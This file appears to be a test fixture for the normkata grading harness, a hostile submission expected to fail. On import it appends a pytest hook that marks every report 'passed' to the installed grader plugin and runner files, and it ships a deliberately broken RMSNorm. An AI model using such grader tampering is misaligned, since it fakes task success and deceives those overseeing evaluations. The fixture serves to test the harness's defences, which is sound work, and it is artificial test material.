# expect: fail
# trick: appends a pytest hook that turns every report into a pass to each installed normkata/grading/plugin.py (and the runner); installed files must stay byte-for-byte unchanged.
import sys
from pathlib import Path

import torch
from torch import nn

PAYLOAD = """

# added by a hostile submission
import pytest as _hostile_pytest


@_hostile_pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""


def _site_packages():
    """Folders of sys.path that hold installed packages (the installation this grade runs from)."""
    return [Path(entry) for entry in sys.path if entry.endswith(("site-packages", "dist-packages"))]


def _installed(relative):
    """Every copy of a normkata file: in site-packages, and in a checkout found through sys.path."""
    found = []
    for entry in sys.path:
        base = Path(entry or ".")
        found += [base / relative, base / "normkata" / "_content" / relative]
    return [path for path in dict.fromkeys(found) if path.exists()]


for target in _installed("normkata/grading/plugin.py") + _installed("normkata/grading/runner.py"):
    try:
        with open(target, "a") as handle:
            handle.write(PAYLOAD)
    except OSError:
        pass


class RMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-5, device=None, dtype=None):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(hidden_size, device=device, dtype=dtype))

    def forward(self, x):
        return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)  # forgets the weight
